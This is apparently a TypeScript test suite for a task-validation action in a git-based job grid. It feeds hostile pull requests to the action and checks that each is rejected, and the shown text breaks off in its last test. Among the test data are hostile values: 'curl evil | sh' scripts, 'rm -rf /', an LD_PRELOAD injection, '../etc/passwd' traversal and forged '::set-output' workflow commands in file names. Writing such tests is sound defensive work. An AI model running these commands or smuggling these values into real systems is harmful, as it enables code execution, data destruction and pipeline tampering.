// Hostile pull requests, each a real base and head commit in a real grid repository, run through the bundled
// validate-task action as the runner would. Every one must be rejected with a message at the right place.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { signTaskFile, taskSigningMessage } from '../src/validation/ssh-signature.js';
import { withAlgorithm } from './helpers/sshsig.js';
import { git } from '../src/git/runner.js';
import {
  DGRID,
  GITHUB,
  gridCheckout,
  runValidate,
  task,
  withPolicy,
  type Annotation,
  type Checkout,
  type ValidateRun,
  type Work,
} from './helpers/pull-request.js';

type Base = 'main' | 'signed' | 'perPullRequest' | 'perSubmitter' | 'maxQueued' | 'labelled';

interface Expected {
  /** The annotation's file; none for problems of the whole pull request. */
  file?: string;
  message: RegExp;
  /** Where the annotation points: a text to find in the file at head, or a position; none for a file-level problem. */
  at?: string | { line: number; column: number };
}

interface Case {
  name: string;
  base?: Base;
  login?: string;
  build(work: Work): Promise<void>;
  expect: Expected[];
}

let checkout: Checkout;
const bases = {} as Record<Base, string>;
const keys = { alice: '', mallory: '', rsa: '' };
let alicePublic = '';

before(async () => {
  const grid = await gridCheckout();
  checkout = grid.checkout;
  for (const name of ['alice', 'mallory', 'rsa'] as const) {
    keys[name] = join(checkout.root, name);
    const type = name === 'rsa' ? ['-t', 'rsa', '-b', '2048'] : ['-t', 'ed25519'];
    execFileSync('ssh-keygen', ['-q', ...type, '-N', '', '-C', `${name}@example.com`, '-f', keys[name]]);
  }
  alicePublic = (await readFile(`${keys.alice}.pub`, 'utf8')).trim();
  const rsaPublic = (await readFile(`${keys.rsa}.pub`, 'utf8')).trim();
  bases.main = grid.main;
  bases.signed = await withPolicy(checkout, grid.main, {
    signatures: {
      required: true,
      trusted_signers: [`alice@example.com namespaces="dgrid-task" ${alicePublic}`, `rsa@example.com ${rsaPublic}`],
    },
  });
  bases.labelled = await withPolicy(checkout, grid.main, { labels: ['gpu', 'linux'], secrets: ['API_TOKEN'] });
  bases.perPullRequest = await withPolicy(checkout, grid.main, { quotas: { tasks_per_pull_request: 2 } });
  bases.perSubmitter = await withPolicy(checkout, grid.main, { quotas: { queued_per_submitter: 3 } });
  bases.maxQueued = await withPolicy(checkout, grid.main, { quotas: { max_queued: 5 } });
});

after(() => checkout.cleanup());

/** The text of a task signed by a key, as `dgrid sign` writes it. */
async function signed(value: object, key: string): Promise<string> {
  const path = join(await mkdtemp(join(checkout.root, 'sign-')), 'task.json');
  await writeFile(path, JSON.stringify(value));
  await signTaskFile(path, key);
  return readFile(path, 'utf8');
}

const queue = (id: string) => `tasks/queue/${id}.json`;

/** Adds task files to the queue, one per id. */
function adding(...tasks: ReturnType<typeof task>[]): (work: Work) => Promise<void> {
  return async (work) => {
    for (const t of tasks) await work.write(queue(t.task_id), t);
  };
}

/**
 * A valid task beside another change: a pull request that touches no task file is no submission (the gate
 * passes it as "no task files", for the maintainers' review), so a hostile one carries a task.
 */
function withTask(build: (work: Work) => Promise<void>): (work: Work) => Promise<void> {
  return async (work) => {
    await adding(task('cover'))(work);
    await build(work);
  };
}

const hostile: Case[] = [
  // File modes, links and submodules.
  {
    name: 'a symbolic link in the queue',
    build: (w) => w.symlink(queue('link'), '../../dgrid.json'),
    expect: [{ file: queue('link'), message: /^a symbolic link is not a task: add a regular JSON file$/ }],
  },
  {
    name: 'an executable task file',
    build: async (w) => {
      await w.write(queue('exec'), task('exec'));
      await w.executable(queue('exec'));
    },
    expect: [
      { file: queue('exec'), message: /^file mode 100755 is not allowed: task files are regular, non-executable/ },
    ],
  },
  {
    name: 'a submodule in the queue',
    build: async (w) => w.submodule(queue('sub'), bases.main),
    expect: [{ file: queue('sub'), message: /^a submodule is not a task: add a regular JSON file$/ }],
  },
  {
    name: 'a queued task replaced by a symbolic link',
    build: async (w) => {
      await w.remove(queue('q-alice-1'));
      await w.symlink(queue('q-alice-1'), '/etc/passwd');
    },
    expect: [
      { file: queue('q-alice-1'), message: /^changing the type of tasks\/queue\/q-alice-1\.json is not allowed/ },
    ],
  },

  // Paths outside the queue, and queued tasks that are not the pull request's to change.
  {
    name: 'editing a node file',
    build: withTask((w) => w.write('nodes/node-1.json', { node_id: 'node-1', status: 'offline' })),
    expect: [
      {
        file: 'nodes/node-1.json',
        message: /^changing nodes\/node-1\.json is not allowed: node files are written by worker nodes only/,
      },
    ],
  },
  {
    name: 'adding a node file',
    build: withTask((w) => w.write('nodes/evil.json', { node_id: 'evil' })),
    expect: [{ file: 'nodes/evil.json', message: /^adding nodes\/evil\.json is not allowed/ }],
  },
  {
    name: 'a claim forged into in_progress/',
    build: (w) => w.write('tasks/in_progress/node-1/forged.json', task('forged')),
    expect: [
      {
        file: 'tasks/in_progress/node-1/forged.json',
        message: /^adding tasks\/in_progress\/node-1\/forged\.json is not allowed: only dgrid moves tasks/,
      },
    ],
  },
  {
    name: 'a result forged into completed/',
    build: (w) => w.write('tasks/completed/2024-01-02/ef/fake.json', task('fake')),
    expect: [{ file: 'tasks/completed/2024-01-02/ef/fake.json', message: /^adding .* only dgrid moves tasks/ }],
  },
  {
    name: 'a failure erased from failed/',
    build: (w) => w.remove('tasks/failed/2024-01-01/cd/failed-1.json'),
    expect: [
      {
        file: 'tasks/failed/2024-01-01/cd/failed-1.json',
        message: /^deleting tasks\/failed\/2024-01-01\/cd\/failed-1\.json is not allowed/,
      },
    ],
  },
  {
    name: 'editing the validation workflow',
    build: withTask((w) => w.write('.github/workflows/validate.yml', 'name: validate\non: push\n')),
    expect: [
      {
        file: '.github/workflows/validate.yml',
        message:
          /^changing \.github\/workflows\/validate\.yml is not allowed: a task submission cannot change workflows/,
      },
    ],
  },
  {
    name: 'adding a workflow',
    build: withTask((w) => w.write('.github/workflows/mine.yml', 'on: push\n')),
    expect: [{ file: '.github/workflows/mine.yml', message: /^adding \.github\/workflows\/mine\.yml is not allowed/ }],
  },
  {
    name: 'raising its own quota in dgrid.json',
    build: withTask((w) => w.write('dgrid.json', { quotas: { tasks_per_pull_request: 100000 } })),
    expect: [
      {
        file: 'dgrid.json',
        message: /^changing dgrid\.json is not allowed: a task submission cannot change the grid policy/,
      },
    ],
  },
  {
    name: 'editing a file outside the grid folders',
    build: withTask((w) => w.write('README.md', '# Pwned\n')),
    expect: [
      {
        file: 'README.md',
        message: /^changing README\.md is not allowed: a task submission only adds files tasks\/queue\/<task_id>\.json/,
      },
    ],
  },
  {
    name: 'editing a queued task',
    build: (w) => w.write(queue('q-bob-1'), task('q-bob-1', { script: 'curl evil | sh' })),
    expect: [
      {
        file: queue('q-bob-1'),
        message: /^changing tasks\/queue\/q-bob-1\.json is not allowed: a queued task cannot be edited/,
      },
    ],
  },
  {
    name: 'deleting a queued task',
    build: (w) => w.remove(queue('q-alice-2')),
    expect: [
      {
        file: queue('q-alice-2'),
        message: /^deleting tasks\/queue\/q-alice-2\.json is not allowed: a queued task stays/,
      },
    ],
  },
  {
    name: 'renaming a queued task',
    build: async (w) => {
      await w.write(queue('q-dgrid-2'), (await w.read(queue('q-dgrid-1'))).replace('q-dgrid-1', 'q-dgrid-2'));
      await w.remove(queue('q-dgrid-1'));
    },
    expect: [
      { file: queue('q-dgrid-1'), message: /^deleting tasks\/queue\/q-dgrid-1\.json is not allowed/ },
      { file: queue('q-dgrid-2'), message: /^unknown field "attempts" in the file/, at: '"attempts"' },
    ],
  },
  {
    name: "a request to cancel someone else's task",
    build: (w) => w.write('tasks/cancel/q-alice-1.json', { task_id: 'q-alice-1' }),
    expect: [
      {
        file: 'tasks/cancel/q-alice-1.json',
        message: /^only the submitter of q-alice-1 may cancel it by pull request \(not mallory\)/,
        at: '"task_id"',
      },
    ],
  },
  {
    name: 'a task in a sub-folder of the queue',
    build: (w) => w.write('tasks/queue/mine/deep.json', task('deep')),
    expect: [{ file: 'tasks/queue/mine/deep.json', message: /^adding .* not in a sub-folder: move it there$/ }],
  },
  {
    name: 'a file in the queue that is not JSON',
    build: (w) => w.write('tasks/queue/notes.txt', 'hello'),
    expect: [{ file: 'tasks/queue/notes.txt', message: /^task files are named <task_id>\.json$/ }],
  },
  {
    name: 'a file name that is not a task id',
    build: (w) => w.write('tasks/queue/-rf.json', task('-rf')),
    expect: [{ file: 'tasks/queue/-rf.json', message: /^file name "-rf\.json" is not a valid task id/ }],
  },
  {
    name: 'a good task smuggling a change outside the queue',
    build: async (w) => {
      await adding(task('innocent'))(w);
      await w.write('src/backdoor.js', 'steal()\n');
    },
    expect: [{ file: 'src/backdoor.js', message: /^adding src\/backdoor\.js is not allowed/ }],
  },

  // JSON traps.
  {
    name: 'a byte order mark',
    build: (w) => w.write(queue('bom'), `\uFEFF${JSON.stringify(task('bom'))}`),
    expect: [
      {
        file: queue('bom'),
        message: /byte order mark \(BOM\): save it as UTF-8 without BOM/,
        at: { line: 1, column: 1 },
      },
    ],
  },
  {
    name: 'a duplicate key',
    build: (w) =>
      w.write(queue('dupkey'), '{\n  "task_id": "dupkey",\n  "script": "true",\n  "script": "rm -rf /"\n}\n'),
    expect: [
      {
        file: queue('dupkey'),
        message: /^duplicate key "script" \(first at line 3, column 3\): keep only one$/,
        at: '"script": "rm',
      },
    ],
  },
  {
    name: 'a comment',
    build: (w) => w.write(queue('commented'), '{\n  // run this\n  "task_id": "commented",\n  "script": "x"\n}\n'),
    expect: [{ file: queue('commented'), message: /^comments are not allowed in JSON/, at: '// run' }],
  },
  {
    name: 'NaN',
    build: (w) => w.write(queue('nan'), '{"task_id": "nan", "script": "x", "timeout_seconds": NaN}'),
    expect: [{ file: queue('nan'), message: /^NaN and Infinity are not allowed in JSON/, at: 'NaN' }],
  },
  {
    name: 'Infinity',
    build: (w) => w.write(queue('inf'), '{"task_id": "inf", "script": "x", "timeout_seconds": -Infinity}'),
    expect: [{ file: queue('inf'), message: /^NaN and Infinity are not allowed in JSON/, at: '-Infinity' }],
  },
  {
    name: 'trailing data after the object',
    build: (w) => w.write(queue('trailing'), '{"task_id": "trailing", "script": "x"}\n{"task_id": "second"}\n'),
    expect: [
      {
        file: queue('trailing'),
        message: /^unexpected data after the end of the JSON object/,
        at: '{"task_id": "second',
      },
    ],
  },
  {
    name: 'a trailing comma',
    build: (w) => w.write(queue('comma'), '{"task_id": "comma", "script": "x",}'),
    expect: [{ file: queue('comma'), message: /^trailing comma before "}"/, at: ',}' }],
  },
  {
    name: 'deep nesting',
    build: (w) =>
      w.write(
        queue('deep'),
        `{"task_id": "deep", "script": "x", "description": ${'['.repeat(5000)}${']'.repeat(5000)}}`,
      ),
    expect: [
      {
        file: queue('deep'),
        message: /nested more than 32 levels deep: flatten the structure/,
        at: { line: 1, column: 82 },
      },
    ],
  },
  {
    name: 'a __proto__ key',
    build: (w) => w.write(queue('proto'), '{"task_id": "proto", "script": "x", "__proto__": {"isAdmin": true}}'),
    expect: [{ file: queue('proto'), message: /^key __proto__ is not allowed: remove it$/, at: '"__proto__"' }],
  },
  {
    name: 'invalid UTF-8',
    build: (w) =>
      w.write(
        queue('latin1'),
        Buffer.concat([
          Buffer.from('{\n  "task_id": "latin1",\n  "script": "caf'),
          Buffer.from([0xe9]),
          Buffer.from('"\n}'),
        ]),
      ),
    expect: [
      {
        file: queue('latin1'),
        message: /^the file is not valid UTF-8 \(at byte offset 41\)/,
        at: { line: 3, column: 17 },
      },
    ],
  },
  {
    name: 'a file over the size limit',
    build: (w) => w.write(queue('huge'), task('huge', { description: 'x'.repeat(4000), script: 'x'.repeat(100_000) })),
    expect: [{ file: queue('huge'), message: /^the file is \d+ bytes; task files are at most 98304 bytes$/ }],
  },
  {
    name: 'an empty file',
    build: (w) => w.write(queue('empty'), ''),
    expect: [
      { file: queue('empty'), message: /^the file is empty: it must hold a JSON object$/, at: { line: 1, column: 1 } },
    ],
  },
  {
    name: 'an array instead of an object',
    build: (w) => w.write(queue('array'), '[{"task_id": "array", "script": "x"}]'),
    expect: [{ file: queue('array'), message: /must hold a JSON object/, at: { line: 1, column: 1 } }],
  },
  {
    name: 'a raw control character in a string',
    build: (w) => w.write(queue('tab'), '{"task_id": "tab", "script": "a\tb"}'),
    expect: [{ file: queue('tab'), message: /^unescaped control character U\+0009 in a string/, at: '\t' }],
  },
  {
    name: 'half a surrogate pair',
    build: (w) => w.write(queue('surrogate'), '{"task_id": "surrogate", "script": "\\ud800"}'),
    expect: [{ file: queue('surrogate'), message: /half of a surrogate pair/, at: '"\\ud800"' }],
  },

  // Duplicate ids, dependencies and cycles.
  {
    name: 'an id already completed',
    build: adding(task('done-1')),
    expect: [
      {
        file: queue('done-1'),
        message:
          /^task id "done-1" is already used by tasks\/completed\/2024-01-01\/ab\/done-1\.json: choose another task_id$/,
        at: '"task_id"',
      },
    ],
  },
  {
    name: 'an id in progress on a node',
    build: adding(task('running-1')),
    expect: [
      {
        file: queue('running-1'),
        message: /is already used by tasks\/in_progress\/node-1\/running-1\.json/,
        at: '"task_id"',
      },
    ],
  },
  {
    name: 'an id that failed, in other letter case',
    build: adding(task('FAILED-1')),
    expect: [
      {
        file: queue('FAILED-1'),
        message: /^task id "FAILED-1" is already used by tasks\/failed\/2024-01-01\/cd\/failed-1\.json/,
        at: '"task_id"',
      },
    ],
  },
  {
    name: 'an id queued already, in other letter case',
    build: adding(task('Q-BOB-1')),
    expect: [{ file: queue('Q-BOB-1'), message: /is already used by tasks\/queue\/q-bob-1\.json/, at: '"task_id"' }],
  },
  {
    name: 'the same id twice in the pull request',
    build: adding(task('twin'), task('TWIN')),
    expect: [
      {
        file: queue('twin'),
        message: /^task id "twin" is also the id of tasks\/queue\/TWIN\.json among the files checked/,
        at: '"task_id"',
      },
      {
        file: queue('TWIN'),
        message: /^task id "TWIN" is also the id of tasks\/queue\/twin\.json among the files checked/,
        at: '"task_id"',
      },
    ],
  },
  {
    name: 'a dependency on nothing',
    build: adding(task('orphan', { depends_on: ['done-1', 'ghost'] })),
    expect: [
      {
        file: queue('orphan'),
        message: /^depends_on names "ghost", but there is no such task in the grid or among the files checked/,
        at: '"ghost"',
      },
    ],
  },
  {
    name: 'a cycle within the pull request',
    build: adding(task('chicken', { depends_on: ['egg'] }), task('egg', { depends_on: ['chicken'] })),
    expect: [
      { file: queue('chicken'), message: /^depends_on makes a cycle \(chicken → egg → chicken\)/, at: '"egg"' },
      { file: queue('egg'), message: /^depends_on makes a cycle \(egg → chicken → egg\)/, at: '"chicken"' },
    ],
  },
  {
    name: 'a task depending on itself',
    build: adding(task('ouroboros', { depends_on: ['ouroboros'] })),
    expect: [
      {
        file: queue('ouroboros'),
        message: /^depends_on makes a cycle \(ouroboros → ouroboros\)/,
        at: { line: 5, column: 5 },
      },
    ],
  },
  {
    name: 'a cycle through a task queued at the base',
    build: adding(task('new-x', { depends_on: ['q-bob-1'] })),
    expect: [
      { file: queue('new-x'), message: /^depends_on makes a cycle \(new-x → q-bob-1 → new-x\)/, at: '"q-bob-1"' },
    ],
  },

  // Quotas, from the policy at the base.
  {
    name: 'more tasks than a pull request may add',
    base: 'perPullRequest',
    login: 'carol',
    build: adding(task('c1'), task('c2'), task('c3')),
    expect: [
      {
        message:
          /^this pull request adds 3 tasks; this grid accepts at most 2 per pull request \(quotas\.tasks_per_pull_request\)/,
      },
    ],
  },
  {
    name: 'more queued tasks than a submitter may have (merged and committed ones count)',
    base: 'perSubmitter',
    login: 'alice',
    build: adding(task('a3'), task('a4')),
    expect: [{ message: /^alice would have 4 tasks queued; this grid allows at most 3 per submitter/ }],
  },
  {
    name: 'more queued tasks than a submitter may have (noreply address, login in other case)',
    base: 'perSubmitter',
    login: 'Bob',
    build: adding(task('b2'), task('b3'), task('b4')),
    expect: [{ message: /^Bob would have 4 tasks queued; this grid allows at most 3 per submitter/ }],
  },
  {
    name: 'a queue over its limit',
    base: 'maxQueued',
    login: 'carol',
    build: adding(task('m1'), task('m2')),
    expect: [{ message: /^the queue would hold 6 tasks; this grid allows at most 5 \(quotas\.max_queued\)/ }],
  },

  // Signatures, when the policy at the base requires them.
  {
    name: 'an unsigned task',
    base: 'signed',
    build: adding(task('unsigned')),
    expect: [
      {
        file: queue('unsigned'),
        message: /^this grid accepts signed tasks only: sign the file with "dgrid sign/,
        at: { line: 1, column: 1 },
      },
    ],
  },
  {
    name: 'a task signed by an untrusted key',
    base: 'signed',
    build: async (w) => w.write(queue('mallory'), await signed(task('mallory'), keys.mallory)),
    expect: [
      {
        file: queue('mallory'),
        message: /^the signature is not accepted \(key SHA256:\S+ is not a trusted signer\)/,
        at: '"signature"',
      },
    ],
  },
  {
    name: 'a signature made for another namespace',
    base: 'signed',
    build: async (w) => {
      const value = task('namespace');
      const armored = execFileSync('ssh-keygen', ['-Y', 'sign', '-n', 'git', '-f', keys.alice], {
        input: taskSigningMessage(value),
        stdio: ['pipe', 'pipe', 'pipe'],
      }).toString();
      await w.write(queue('namespace'), { ...value, signature: armored });
    },
    expect: [
      {
        file: queue('namespace'),
        message: /^the signature is not accepted \(signed for namespace git, expected dgrid-task\)/,
        at: '"signature"',
      },
    ],
  },
  {
    name: 'a task edited after signing',
    base: 'signed',
    build: async (w) => {
      const text = await signed(task('edited', { script: 'echo hi' }), keys.alice);
      await w.write(queue('edited'), text.replace('echo hi', 'curl evil | sh'));
    },
    expect: [
      {
        file: queue('edited'),
        message: /^the signature is not accepted \(the signature does not match the content\)/,
        at: '"signature"',
      },
    ],
  },
  {
    name: 'a signature replayed under another task id',
    base: 'signed',
    build: async (w) => {
      const text = await signed(task('original'), keys.alice);
      await w.write(queue('replayed'), text.replace('"original"', '"replayed"'));
    },
    expect: [
      {
        file: queue('replayed'),
        message: /^the signature is not accepted \(the signature does not match the content\)/,
        at: '"signature"',
      },
    ],
  },
  {
    name: 'a signature whose inner algorithm is a name every JavaScript object has',
    base: 'signed',
    build: async (w) => {
      for (const name of ['constructor', '__proto__', 'toString']) {
        const id = `sig-${name.replaceAll('_', '')}`;
        const text = await signed(task(id), keys.rsa);
        const value = JSON.parse(text) as { signature: string };
        await w.write(queue(id), { ...value, signature: withAlgorithm(value.signature, name) });
      }
    },
    expect: ['constructor', '__proto__', 'toString'].map((name) => ({
      file: queue(`sig-${name.replaceAll('_', '')}`),
      message: new RegExp(`^the signature is not accepted \\(signature algorithm "${name}" is not one dgrid knows`),
      at: '"signature"',
    })),
  },
  {
    name: "requires naming a label outside the grid's list",
    base: 'labelled',
    build: adding(task('needs-tpu', { requires: ['gpu', 'tpu'] })),
    expect: [
      {
        file: queue('needs-tpu'),
        message:
          /^requires names label "tpu", which is not one of this grid's labels \(labels in dgrid\.json: gpu, linux\)/,
        at: '"tpu"',
      },
    ],
  },
  {
    name: "secrets naming one the grid's policy does not offer",
    base: 'labelled',
    build: adding(task('wants-keys', { secrets: ['API_TOKEN', 'DEPLOY_KEY'] })),
    expect: [
      {
        file: queue('wants-keys'),
        message:
          /^secrets names "DEPLOY_KEY", which this grid does not offer \(secrets in dgrid\.json: API_TOKEN\): remove it/,
        at: '"DEPLOY_KEY"',
      },
    ],
  },
  {
    name: 'an output pattern that climbs out of /out',
    base: 'main',
    build: adding(task('climbs', { outputs: ['ok/*.txt', 'a/../../etc/passwd'] })),
    expect: [
      {
        file: queue('climbs'),
        message: /^field "outputs\.1" must be a pattern relative to \/out with no "\.\." step/,
        at: '"a/../../etc/passwd"',
      },
    ],
  },
  {
    name: 'a signature that is not one',
    base: 'signed',
    build: adding(task('garbage', { signature: 'trust me' })),
    expect: [
      {
        file: queue('garbage'),
        message: /^the signature is not accepted \(the signature is not armored/,
        at: '"signature"',
      },
    ],
  },
];

/** Every field of the schema out of range, one file each, all in one pull request. */
const outOfRange: Record<string, { fields: object; message: RegExp; at: string }> = {
  'no-script': { fields: { script: undefined }, message: /^missing field "script" in the file: add it$/, at: '{' },
  'empty-script': {
    fields: { script: '' },
    message: /^field "script" must NOT have fewer than 1 characters$/,
    at: '"script"',
  },
  'long-script': {
    fields: { script: 'x'.repeat(70_000) },
    message: /^field "script" must NOT have more than 65536 characters$/,
    at: '"script"',
  },
  'script-number': { fields: { script: 42 }, message: /^field "script" must be of type string$/, at: '"script"' },
  'timeout-zero': {
    fields: { timeout_seconds: 0 },
    message: /^field "timeout_seconds" must be >= 1$/,
    at: '"timeout_seconds"',
  },
  'timeout-text': {
    fields: { timeout_seconds: '30' },
    message: /^field "timeout_seconds" must be of type integer$/,
    at: '"timeout_seconds"',
  },
  'timeout-fraction': {
    fields: { timeout_seconds: 1.5 },
    message: /^field "timeout_seconds" must be of type integer$/,
    at: '"timeout_seconds"',
  },
  'timeout-policy': {
    fields: { timeout_seconds: 601 },
    message: /^field "timeout_seconds" is 601; this grid allows at most 600$/,
    at: '"timeout_seconds"',
  },
  'image-empty': {
    fields: { image: '' },
    message: /^field "image" must NOT have fewer than 1 characters$/,
    at: '"image"',
  },
  'image-policy': {
    fields: { image: 'ubuntu:latest' },
    message: /^image "ubuntu:latest" is not allowed here; use one of: python:3\.12-alpine, alpine@sha256:a+$/,
    at: '"image"',
  },
  'image-bidi': {
    fields: { image: 'python:3.12-alpine\u202E\u200Bevil' },
    message: /^image "python:3\.12-alpine\\u202e\\u200bevil" is not allowed here/,
    at: '"image"',
  },
  'priority-unknown': {
    fields: { priority: 'urgent' },
    message: /^field "priority" must be one of the allowed values: "high", "normal", "low"$/,
    at: '"priority"',
  },
  'depends-text': {
    fields: { depends_on: 'done-1' },
    message: /^field "depends_on" must be of type array$/,
    at: '"depends_on"',
  },
  'depends-twice': {
    fields: { depends_on: ['done-1', 'done-1'] },
    message: /^field "depends_on" must NOT have duplicate items/,
    at: '"depends_on"',
  },
  'depends-path': {
    fields: { depends_on: ['../etc/passwd'] },
    message: /^field "depends_on\.0" must match \^\[A-Za-z0-9\]/,
    at: '"../etc/passwd"',
  },
  'depends-many': {
    fields: { depends_on: Array.from({ length: 101 }, (_, i) => `d${i}`) },
    message: /^field "depends_on" must NOT have more than 100 items$/,
    at: '"depends_on"',
  },
  'attempts-zero': {
    fields: { max_attempts: 0 },
    message: /^field "max_attempts" must be >= 1$/,
    at: '"max_attempts"',
  },
  'attempts-eleven': {
    fields: { max_attempts: 11 },
    message: /^field "max_attempts" must be <= 10$/,
    at: '"max_attempts"',
  },
  'attempts-policy': {
    fields: { max_attempts: 6 },
    message: /^field "max_attempts" is 6; this grid allows at most 5$/,
    at: '"max_attempts"',
  },
  'requires-space': {
    fields: { requires: ['has space'] },
    message: /^field "requires\.0" must match/,
    at: '"has space"',
  },
  'requires-twice': {
    fields: { requires: ['gpu', 'gpu'] },
    message: /^field "requires" must NOT have duplicate items/,
    at: '"requires"',
  },
  'cpus-zero': {
    fields: { resources: { cpus: 0 } },
    message: /^field "resources\.cpus" must be >= 0\.01$/,
    at: '"cpus"',
  },
  'cpus-tiny': {
    fields: { resources: { cpus: 0.001 } },
    message: /^field "resources\.cpus" must be >= 0\.01$/,
    at: '"cpus"',
  },
  'cpus-policy': {
    fields: { resources: { cpus: 4 } },
    message: /^field "resources\.cpus" is 4; this grid allows at most 2$/,
    at: '"cpus"',
  },
  'memory-small': {
    fields: { resources: { memory_mb: 8 } },
    message: /^field "resources\.memory_mb" must be >= 16$/,
    at: '"memory_mb"',
  },
  'memory-policy': {
    fields: { resources: { memory_mb: 4096 } },
    message: /^field "resources\.memory_mb" is 4096; this grid allows at most 1024$/,
    at: '"memory_mb"',
  },
  'resources-gpus': {
    fields: { resources: { gpus: 1 } },
    message: /^unknown field "gpus" in field "resources": remove it/,
    at: '"gpus"',
  },
  'not-before-far': {
    fields: { not_before: '2999-01-01T00:00:00Z' },
    message: /^field "not_before" is 2999-01-01T00:00:00Z, more than 30 days ahead \(max_delay_days in dgrid\.json\)/,
    at: '"not_before"',
  },
  'not-before-text': {
    fields: { not_before: 'tomorrow' },
    message: /^field "not_before" must match format "date-time"$/,
    at: '"not_before"',
  },
  'env-ld': {
    fields: { env: { LD_PRELOAD: '/tmp/evil.so' } },
    message: /^field "env" has a name that is not allowed: "LD_PRELOAD"/,
    at: '"LD_PRELOAD"',
  },
  'env-path': { fields: { env: { PATH: '/tmp' } }, message: /has a name that is not allowed: "PATH"/, at: '"PATH"' },
  'env-home': { fields: { env: { HOME: '/tmp' } }, message: /has a name that is not allowed: "HOME"/, at: '"HOME"' },
  'env-lower': { fields: { env: { token: 'x' } }, message: /has a name that is not allowed: "token"/, at: '"token"' },
  'env-newline': {
    fields: { env: { NAME: 'a\nb' } },
    message: /^field "env\.NAME" must not hold a NUL character or a line break \(\\u0000, \\n, \\r\): give one line/,
    at: '"NAME"',
  },
  'env-nul': {
    fields: { env: { NAME: 'a\u0000b' } },
    message: /^field "env\.NAME" must not hold a NUL character or a line break/,
    at: '"NAME"',
  },
  'script-nul': {
    fields: { script: 'echo hi\u0000' },
    message: /^field "script" must not hold a NUL character \(\\u0000\): no process can be given one$/,
    at: '"script"',
  },
  'env-number': {
    fields: { env: { COUNT: 3 } },
    message: /^field "env\.COUNT" must be of type string$/,
    at: '"COUNT"',
  },
  'description-long': {
    fields: { description: 'x'.repeat(5000) },
    message: /^field "description" must NOT have more than 4096 characters$/,
    at: '"description"',
  },
  'unknown-field': {
    fields: { colour: 'red' },
    message: /^unknown field "colour" in the file: remove it or check its spelling$/,
    at: '"colour"',
  },
  'attempts-field': { fields: { attempts: [] }, message: /^unknown field "attempts" in the file/, at: '"attempts"' },
  'id-mismatch': {
    fields: { task_id: 'another' },
    message: /^task_id "another" does not match the file name "id-mismatch\.json": make them equal$/,
    at: '"task_id"',
  },
  'id-pattern': { fields: { task_id: 'has space' }, message: /^field "task_id" must match/, at: '"task_id"' },
};

function position(text: string, at: Expected['at']): { line: number; column: number } | undefined {
  if (at === undefined || typeof at === 'object') return at;
  const offset = text.indexOf(at);
  assert.notEqual(offset, -1, `${JSON.stringify(at)} is in the file`);
  const before = text.slice(0, offset).split('\n');
  return { line: before.length, column: before.at(-1)!.length + 1 };
}

/** The runner would obey any line that starts with "::"; the only ones allowed are dgrid's own annotations. */
function assertNoForgedCommands(run: ValidateRun): void {
  for (const command of run.annotations) {
    const ours =
      (command.command === 'error' && command.properties.title === 'dgrid validate-task') ||
      (command.command === 'error' && command.message.startsWith('not accepted: '));
    assert.ok(ours, `forged workflow command: ${JSON.stringify(command)}`);
  }
}

async function rejected(base: string, head: string, login: string, expected: Expected[]): Promise<ValidateRun> {
  const run = await runValidate({ path: checkout.dir }, { base, head, login });
  assert.equal(run.exitCode, 1, run.stdout + run.stderr);
  assert.equal(run.outputs.valid, 'false');
  assertNoForgedCommands(run);
  for (const e of expected) {
    const candidates = run.annotations.filter((a: Annotation) => a.properties.file === e.file && a.properties.title);
    const found = candidates.find((a) => e.message.test(a.message));
    assert.ok(
      found,
      `no annotation ${e.message} on ${e.file ?? 'the pull request'}; got ${JSON.stringify(candidates)}`,
    );
    const text =
      e.file && typeof e.at === 'string' ? await git(['show', `${head}:${e.file}`], { cwd: checkout.dir }) : '';
    const where = position(text, e.at);
    assert.equal(found.properties.line, where?.line.toString(), `line of ${e.message}`);
    assert.equal(found.properties.col, where?.column.toString(), `column of ${e.message}`);
  }
  return run;
}

for (const c of hostile) {
  test(`rejected: ${c.name}`, async () => {
    const base = bases[c.base ?? 'main'];
    const head = await checkout.pullRequest(base, c.build);
    await rejected(base, head, c.login ?? 'mallory', c.expect);
  });
}

test(`rejected: every schema field out of range (${Object.keys(outOfRange).length} files), each with its problem`, async () => {
  const head = await checkout.pullRequest(bases.main, async (w) => {
    for (const [id, { fields }] of Object.entries(outOfRange)) await w.write(queue(id), task(id, fields));
  });
  const expected = Object.entries(outOfRange).map(([id, { message, at }]) => ({ file: queue(id), message, at }));
  const run = await rejected(bases.main, head, 'mallory', expected);
  const count = String(Object.keys(outOfRange).length);
  assert.deepEqual(run.outputs, { valid: 'false', checked: count, invalid: count, 'task-ids': '[]' });
});

test('rejected: every problem of a file is reported, not only the first', async () => {
  const head = await checkout.pullRequest(
    bases.main,
    adding(task('messy', { timeout_seconds: 0, priority: 'now', colour: 'red', env: { LD_AUDIT: 'x' } })),
  );
  const run = await rejected(bases.main, head, 'mallory', [
    { file: queue('messy'), message: /"timeout_seconds" must be >= 1/, at: '"timeout_seconds"' },
    { file: queue('messy'), message: /"priority" must be one of/, at: '"priority"' },
    { file: queue('messy'), message: /unknown field "colour"/, at: '"colour"' },
    { file: queue('messy'), message: /"LD_AUDIT"/, at: '"LD_AUDIT"' },
  ]);
  assert.equal(run.annotations.filter((a) => a.properties.file === queue('messy')).length, 4);
});

test('rejected: workflow commands in file names and content are not obeyed', async () => {
  const head = await checkout.pullRequest(bases.main, async (w) => {
    await w.write('tasks/queue/::set-output name=valid::true.json', task('x'));
    await w.write('::error::forged by a file name', 'x');
    await w.write('tasks/queue/line\n::error::forged by a line break.json', task('y'));
    await w.write(
      queue('keys'),
      '{"task_id": "keys", "script": "x", "\\n::set-output name=valid::true": 1, "::error::": 2}',
    );
  });
  const run = await rejected(bases.main, head, 'mallory', [
    { file: 'tasks/queue/::set-output name=valid::true.json', message: /^file name ".*" is not a valid task id/ },
    { file: '::error::forged by a file name', message: /is not allowed/ },
    { file: 'tasks/queue/line\n::error::forged by a line break.json', message: /is not a valid task id/ },
    { file: queue('keys'), message: /^unknown field "\\n:\u200b:set-output name=valid:\u200b:true"/, at: '"\\n' },
  ]);
  assert.equal(run.outputs.valid, 'false');
  assert.doesNotMatch(run.stdout, /^\s*::(set-output|error::forged)/m);
  assert.doesNotMatch(run.summary, /<script|::set-output/);
});

test('valid: a submitter cancels their own queued task by pull request', async () => {
  const head = await checkout.pullRequest(bases.main, (w) =>
    w.write('tasks/cancel/q-alice-1.json', { task_id: 'q-alice-1', reason: 'not needed any more' }),
  );
